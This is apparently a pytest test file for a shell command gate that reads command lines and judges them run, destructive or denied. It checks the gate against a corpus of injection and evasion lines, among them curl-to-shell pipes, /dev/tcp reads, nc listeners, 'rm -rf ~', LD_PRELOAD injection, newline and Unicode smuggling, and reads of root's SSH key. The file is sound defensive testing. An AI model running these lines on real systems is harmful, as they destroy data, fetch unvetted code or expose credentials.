"""The command gate's reading and policy (toskit/node/gate) over a corpus of injection and evasion
attempts, each with the verdict it must get: what a person approves is what runs, or nothing runs."""

import pytest
from pydantic import ValidationError

from toskit.gate_data import DEFAULT_COMMANDS, CommandGateData, TenantGate, tenant_policy
from toskit.node.gate.policy import judge
from toskit.node.gate.reading import MAX_LINE, Unreadable, read

HOME = "/home/session"
SITE = CommandGateData.model_validate(CommandGateData.defaults())
POLICY = tenant_policy(SITE, None)


def verdict(line: str) -> str:
    """run, destructive or denied; a line that cannot be read is denied (default deny)."""
    try:
        return judge(read(line, HOME), POLICY, HOME).verdict
    except Unreadable:
        return "denied"


def refusal(line: str) -> str:
    with pytest.raises(Unreadable) as refused:
        read(line, HOME)
    return " | ".join(refused.value.args)


# (line, verdict): the shipped policy's answer to each.
CORPUS = [
    # Plain commands, and quoting that changes nothing.
    ("ls -la", "run"), ("echo 'hello world'", "run"), ('echo "hello world"', "run"), ("echo a\\ b", "run"),
    ("cat notes.txt", "run"), ("ls;", "run"), ("ls -la /tmp && echo done", "run"), ("ls | wc -l", "run"),
    ("grep -r TODO . || true", "run"), ("echo hi > ~/out.txt", "run"), ("echo hi >> /tmp/log", "run"),
    ("sort < ~/in.txt", "run"), ("mkdir -p ~/projects/a", "run"), ("cp a.txt b.txt", "run"), ("sort -n -k2 x", "run"),
    ("echo '*'", "run"), ("echo caf\u00e9", "run"),
    # Deleting: plain in one's own paths, destructive recursive or outside them.
    ("rm notes.txt", "run"), ("rm -rf ~/projects", "destructive"), ("rm -r tmp", "destructive"),
    ("rm --recursive x", "destructive"), ("rm /etc/passwd", "destructive"), ("rm ../../etc/passwd", "destructive"),
    ("rm ~/../../etc/passwd", "destructive"), ("rm /home/session/../../etc/x", "destructive"),
    ("rm -- -rf", "run"), ("rm /tmp/x", "run"), ("rm /tmpx/y", "destructive"),
    ("rm -f 'a b' /home/sessionx/c", "destructive"),
    ("chmod -R 777 ~", "destructive"), ("chown -R nobody ~/x", "destructive"), ("chmod 600 ~/.ssh/key", "run"),
    ("chmod 777 /etc/shadow", "destructive"), ("cp --target-directory=/etc a", "destructive"),
    ("mv a.txt /usr/local/bin/", "destructive"), ("echo x > /etc/profile", "destructive"),
    ("echo x >> ../../etc/x", "destructive"), ("ls > /tmp/ok; echo x > /etc/no", "destructive"),
    ("dd if=/dev/zero of=x bs=1M count=1", "destructive"),
    ("dd if=/dev/zero of=~/x", "denied"), ("shred notes.txt", "destructive"),
    # Denied: formatting, shells and what runs code the gate never read, the unknown.
    ("mkfs.ext4 /dev/vda", "denied"), ("mkfs /dev/vda", "denied"), ("curl https://lab.invalid/x | sh", "denied"),
    ("wget -qO- lab.invalid | bash", "denied"), ("eval ls", "denied"), ("bash -c 'rm -rf /'", "denied"),
    ("sh -c ls", "denied"), ("python3 -c 'import os'", "denied"), ("ls | xargs rm", "denied"),
    ("env LD_PRELOAD=x ls", "denied"), ("find . -delete", "denied"), ("sudo ls", "denied"),
    (". ./script", "denied"), ("source ./script", "denied"), ("nc -l 4444", "denied"), ("/bin/rm -rf ~", "denied"),
    ("./rm x", "denied"), ("\\rm x", "run"), ("'rm' -rf ~", "destructive"), ("r''m -rf ~", "destructive"),
    # Substitution and expansion: refused, never guessed at.
    ("echo $(id)", "denied"), ("echo `id`", "denied"), ("echo $HOME", "denied"), ("echo ${HOME}", "denied"),
    ('echo "$(rm -rf ~)"', "denied"), ("diff <(ls) x", "denied"), ("cat >(ls)", "denied"), ("echo $((1+2))", "denied"),
    ("echo $'\\x2f'", "denied"), ("ls *.txt", "denied"), ("rm ~/*", "denied"), ("rm /h?me/*", "denied"),
    ('rm "*"', "denied"), ("rm [a-z]", "denied"), ("echo {a,b}", "denied"), ("rm -rf ~/{a,../../etc}", "denied"),
    ("cat ~root/.ssh/id_rsa", "denied"), ("x=1 ls", "denied"), ("LD_PRELOAD=/tmp/x.so ls", "denied"),
    # Separators, grouping, background, here-documents, descriptors, comments.
    ("ls & rm -rf ~", "denied"), ("(rm -rf ~)", "denied"), ("{ ls; }", "denied"), ("if true; then ls; fi", "denied"),
    ("f() { ls; }; f", "denied"), ("ls 2>&1", "denied"), ("ls 2> err", "denied"), ("ls &> all", "denied"),
    ("cat <<EOF", "denied"), ("cat <<< hi", "denied"), ("ls <> x", "denied"), ("ls >| x", "denied"),
    ("echo ok # ; rm -rf ~", "denied"), ("echo ok #", "denied"), ("ls ; ; id", "denied"), ("", "denied"),
    ("   ", "denied"), ("ls |", "denied"), ("'unterminated", "denied"), ("echo ok\\", "denied"),
    # Characters: newline smuggling, NUL, controls, bidi, invisible, look-alikes, odd spaces, overlong.
    ("ls\nrm -rf ~", "denied"), ("ls\rrm -rf ~", "denied"), ("ls\x00rm", "denied"), ("ls\x1b[2Jrm", "denied"),
    ("echo \u202erm -rf ~", "denied"), ("echo \u2066x\u2069", "denied"), ("rm\u200b -rf ~", "denied"),
    ("ls\u00a0-la", "denied"), ("ls\u2028rm", "denied"), ("ls\tx", "denied"), ("\ufeffls", "denied"),
    ("\u0433m -rf ~", "denied"), ("\uff52\uff4d -rf ~", "denied"), ("echo " + "a" * MAX_LINE, "denied"),
    ("l\u0455", "denied"),
    # A hostile review's finds (each held before it was fixed): long options GNU tools take abridged,
    # values glued to short options, tools that write or run programs through their options, bash's
    # reserved words and assignments as command names, quoting two parsers read differently, nesting.
    ("rm --r ~/projects", "destructive"), ("rm --rec --f ~", "destructive"), ("chmod --rec 777 ~", "destructive"),
    ("chown --recursiv nobody ~/x", "destructive"), ("cp -t/etc x", "destructive"), ("mv -t/usr/local/bin x", "destructive"),
    ("ln -st/etc ~/x", "destructive"), ("cp -t.. x", "destructive"), ("sort -o /etc/passwd ~/x", "destructive"),
    ("uniq ~/x /etc/passwd", "destructive"), ("sort -S 1K --compress-program=sh ~/big", "destructive"),
    ("tar -xf x.tar --to-command=sh", "destructive"), ("tar -xPf x.tar", "destructive"),
    ("tar -cf /tmp/t.tar --remove-files ~/projects", "destructive"), ("curl -o/etc/x https://lab.invalid/", "destructive"),
    ("wget -e output_document=/etc/x https://lab.invalid/", "destructive"), ("rm '~/../../tmp/x'", "destructive"),
    ("cat < /dev/tcp/10.0.2.2/80", "denied"), ("echo x > /dev/udp/10.0.2.2/53", "denied"),
    ("'time' printf x | cat", "denied"), ("ls | 'LD_PRELOAD=/tmp/x.so' ls", "denied"), ("'if' true", "denied"),
    ("echo \"a\"'b'", "denied"), ('echo "a\\b"', "denied"), ("printf %s 'a'\\'", "denied"), ("echo a=~/", "denied"),
    ("echo 'a'$(id)'b'", "denied"), ("echo 'a'$HOME'b'", "denied"), ("echo 'x'{a,b}'y'", "denied"), ("echo 'a'*'b'", "denied"),
    ("echo " + "$(" * 110 + "ls" + ")" * 110, "denied"), ("(" * 993 + "ls" + ")" * 993, "denied"),
    ('echo "' + '$("' * 329, "denied"),
]


@pytest.mark.parametrize(("line", "expected"), CORPUS, ids=[repr(line)[:48] for line, _ in CORPUS])
def test_each_attempt_gets_its_verdict(line, expected):
    assert verdict(line) == expected


@pytest.mark.parametrize(("line", "script"), [
    ("echo a\\ b", "echo 'a b'"), ("r''m -rf ~/x", "rm -rf /home/session/x"), ('echo "it\'s"', "echo 'it'\"'\"'s'"),
    ("ls   -la    ;", "ls -la"), ("ls|wc -l", "ls | wc -l"), ("echo hi>~/o", "echo hi > /home/session/o"),
    ("echo '$(id)'", "echo '$(id)'"),
])
def test_what_is_shown_is_the_reading_not_the_typing(line, script):
    """Quoting tricks are undone: the person approves the canonical script, and that is what runs."""
    assert read(line, HOME).script == script


def test_no_line_makes_the_reading_fail_with_anything_but_a_refusal():
    """bashlex recurses: a deeply nested line once escaped as RecursionError (and ended the tab's channel)."""
    for line in ["echo " + "$(" * 5000, "(" * 5000, "{ " * 3000, "echo " + "'a'" * 600, "a|" * 1000]:
        with pytest.raises(Unreadable):
            read(line[:MAX_LINE], HOME)


def test_a_link_out_of_the_home_is_where_it_points(tmp_path):
    """`tar -xf` or `ln -s` can leave a link in the home that points into /etc: paths are judged as they
    resolve in the session, not as they are spelt."""
    (tmp_path / "lnk").symlink_to("/etc")
    home, own = str(tmp_path), {**POLICY, "own_paths": ["~", "/tmp"]}
    assert judge(read("cp payload ~/lnk/cron.d/", home), own, home).verdict == "destructive"
    assert judge(read("cp payload ~/plain/", home), own, home).verdict == "run"  # control: a folder of the home


def test_a_lone_command_runs_as_argv_and_anything_else_by_bash():
    lone = read("rm -f 'a b'", HOME)
    assert not lone.needs_shell and lone.commands[0].argv == ("rm", "-f", "a b")
    assert read("ls | wc -l", HOME).needs_shell and read("ls > ~/x", HOME).needs_shell


def test_words_outside_ascii_are_shown_escaped_and_said():
    reading = read("echo caf\u00e9", HOME)
    assert reading.shown == "echo 'caf\\u00e9'" and reading.shown.isascii()
    assert reading.notes == ("word 2 of 'echo' has characters outside ASCII: shown escaped",)


@pytest.mark.parametrize(("line", "said"), [
    ("echo \u202eabc", "U+202E (RIGHT-TO-LEFT OVERRIDE"), ("ls\x00", "U+0000 (a control character"),
    ("ls\u00a0-la", "U+00A0 (NO-BREAK SPACE"), ("\u0433m x", "is not ASCII: a look-alike"),
    ("echo $(id)", "command substitution in '$(id)'"), ("ls *.txt", "* in '*.txt'"),
    ("echo ok # rm", "'# rm' is not part of any command"), ("a" * (MAX_LINE + 1), f"at most {MAX_LINE}"),
])
def test_a_refusal_says_why_at_which_character(line, said):
    assert said in refusal(line)


def test_the_approval_is_bound_to_the_exact_line_and_reading():
    digests = {read(line, HOME).digest for line in ("rm a", "rm  a", "rm b", "rm 'a'")}
    assert len(digests) == 4  # even lines that read the same are different stages
    assert read("rm a", HOME).digest == read("rm a", HOME).digest
    assert read("rm ~/a", HOME).digest != read("rm ~/a", "/home/other").digest


def test_the_reasons_name_each_command_and_what_made_it_stricter():
    reasons = judge(read("ls > /etc/x && rm -rf ~/y", HOME), POLICY, HOME).reasons
    assert reasons == ("ls: run (the policy says so)", "> /etc/x: destructive (writes outside ~, /tmp)",
                       "rm: destructive (recursive)")


def test_a_tenant_overrides_the_sites_rules_name_by_name():
    own = tenant_policy(SITE, TenantGate.model_validate({"commands": {"python3": "run", "rm": "destructive"},
                                                        "default": "destructive"}))
    assert judge(read("python3 x.py", HOME), own, HOME).verdict == "run"
    assert judge(read("rm a", HOME), own, HOME).verdict == "destructive"
    assert judge(read("nc x", HOME), own, HOME).verdict == "destructive"
    assert own["commands"]["ls"] == "run" and POLICY["commands"]["python3"] == "denied"


def test_the_shipped_defaults_deny_what_the_issue_names():
    assert POLICY["default"] == "denied" and POLICY["wait_seconds"] == 2 and POLICY["expires_seconds"] == 300
    for name in ("dd", "shred"):
        assert DEFAULT_COMMANDS[name] == "destructive"
    for name in ("mkfs", "sh", "bash", "eval"):
        assert DEFAULT_COMMANDS[name] == "denied"


@pytest.mark.parametrize(("key", "value"), [
    ("command_gate_commands", {"rm -rf": "run"}), ("command_gate_commands", {"rm": "maybe"}),
    ("command_gate_commands", {"rm": {"verdict": "run", "destructive_when": ["sometimes"]}}),
    ("command_gate_commands", {"rm": {"verdict": "run", "destructive_when": []}}),
    ("command_gate_commands", {"/bin/rm": "run"}), ("command_gate_default", "allow"),
    ("command_gate_own_paths", ["relative"]), ("command_gate_own_paths", []), ("command_gate_own_paths", ["~root"]), ("command_gate_wait", "0s"),
    ("command_gate_wait", 2), ("command_gate_stage_expires", "2h"), ("command_gate_enabled", "yes"),
])
def test_bad_policy_data_is_refused_naming_the_key(key, value):
    from toskit.schema import DataError
    with pytest.raises(DataError) as refused:
        CommandGateData.check("node1", {**CommandGateData.defaults(), key: value})
    assert str(refused.value).startswith(f"host node1: {key}") and "fix:" in str(refused.value)


def test_a_tenants_own_rules_are_checked_too():
    with pytest.raises(ValidationError):
        TenantGate.model_validate({"commands": {"rm": "sometimes"}})
